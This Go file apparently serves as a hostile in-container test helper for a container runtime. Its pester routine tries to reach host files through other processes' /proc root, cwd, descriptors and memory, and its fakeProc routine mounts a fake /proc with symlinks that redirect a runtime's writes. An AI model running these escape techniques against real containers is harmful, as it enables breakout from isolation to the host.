package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// pester bothers every process that appears beside it, as CVE-2016-9962 did with
// a process that was about to enter, and keeps changing its own /proc/self. It
// prints what it got hold of. args: MARKER, a file of the host.
// It ends when standard input does.
func pester(args []string) error {
	marker := strings.TrimPrefix(args[0], "/")
	over := make(chan struct{})
	go func() {
		var b [1]byte
		os.Stdin.Read(b[:]) //nolint:errcheck // the end is what is waited for
		close(over)
	}()
	fmt.Fprintln(os.Stdout, "ready")
	seen, told := map[int]bool{}, map[string]bool{}
	for round := 0; ; round++ {
		select {
		case <-over:
			fmt.Fprintln(os.Stdout, "processes", len(seen))
			fmt.Fprintln(os.Stdout, "done")
			return nil
		default:
		}
		changeSelf(round)
		for _, pid := range pids() {
			if pid == os.Getpid() || pid == 1 {
				continue
			}
			seen[pid] = true
			for _, got := range rob(pid, marker) {
				if !told[got] {
					told[got] = true
					fmt.Fprintln(os.Stdout, "got", got)
				}
			}
		}
	}
}

// changeSelf keeps what others read of this process in motion.
func changeSelf(round int) {
	write := func(name, value string) {
		os.WriteFile("/proc/self/"+name, []byte(value), 0) //nolint:errcheck // some are refused, that is fine
	}
	write("comm", "x"+strconv.Itoa(round%7)+" ) S 1")
	write("oom_score_adj", strconv.Itoa(round%1000))
	write("coredump_filter", "0x7f")
	write("timerslack_ns", strconv.Itoa(1+round))
	unix.Prctl(unix.PR_SET_DUMPABLE, uintptr(round%2), 0, 0, 0) //nolint:errcheck // as above
}

// rob returns what pid let be taken of the host: a descriptor, root or working
// directory from which the marker can be read, its memory, or itself by ptrace.
func rob(pid int, marker string) []string {
	var got []string
	proc := fmt.Sprintf("/proc/%d/", pid)
	foreign := !sameExecutable(proc)
	for _, dir := range []string{"root", "cwd"} {
		if fd, err := unix.Open(proc+dir, unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			if _, err := readAt(fd, strings.Repeat("../", 40)+marker); err == nil {
				got = append(got, dir)
			}
			unix.Close(fd)
		}
	}
	entries, _ := os.ReadDir(proc + "fd")
	for _, e := range entries {
		path := filepath.Join(proc, "fd", e.Name())
		fd, err := unix.Open(path, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		if _, err := readAt(fd, marker); err == nil {
			got = append(got, "descriptor")
		}
		unix.Close(fd)
	}
	if !foreign {
		return got
	}
	if openForWriting(proc+"mem") == nil && !sameExecutable(proc) {
		got = append(got, "memory")
	}
	return got
}

// sameExecutable tells processes of this program, which are no booty, from
// the runtime's.
func sameExecutable(proc string) bool {
	var own, other unix.Stat_t
	if unix.Stat("/proc/self/exe", &own) != nil || unix.Stat(proc+"exe", &other) != nil {
		return true // gone, or not to be looked at
	}
	return own.Dev == other.Dev && own.Ino == other.Ino
}

// fakeProc covers /proc by a tmpfs whose entries lead elsewhere, for who enters
// later. It needs CAP_SYS_ADMIN. args: the file that writes shall be led to.
func fakeProc(args []string) error {
	if err := unix.Mount("tmpfs", "/proc", "tmpfs", 0, ""); err != nil {
		return fmt.Errorf("mount over /proc: %w", err)
	}
	// Without it who enters gives up too early to be led anywhere.
	if err := os.MkdirAll("/proc/sys/kernel", 0o755); err != nil {
		return err
	}
	if err := os.WriteFile("/proc/sys/kernel/cap_last_cap", []byte("40\n"), 0o444); err != nil {
		return err
	}
	for _, dir := range []string{"self", "thread-self", "1"} {
		dir = filepath.Join("/proc", dir)
		for _, sub := range []string{"fd", "attr/apparmor", "ns", "task"} {
			if err := os.MkdirAll(filepath.Join(dir, sub), 0o755); err != nil {
				return err
			}
		}
		for _, file := range []string{"attr/exec", "attr/keycreate", "attr/apparmor/exec", "oom_score_adj", "setgroups", "uid_map"} {
			if err := os.Symlink(args[0], filepath.Join(dir, file)); err != nil {
				return err
			}
		}
	}
	return stay()
}
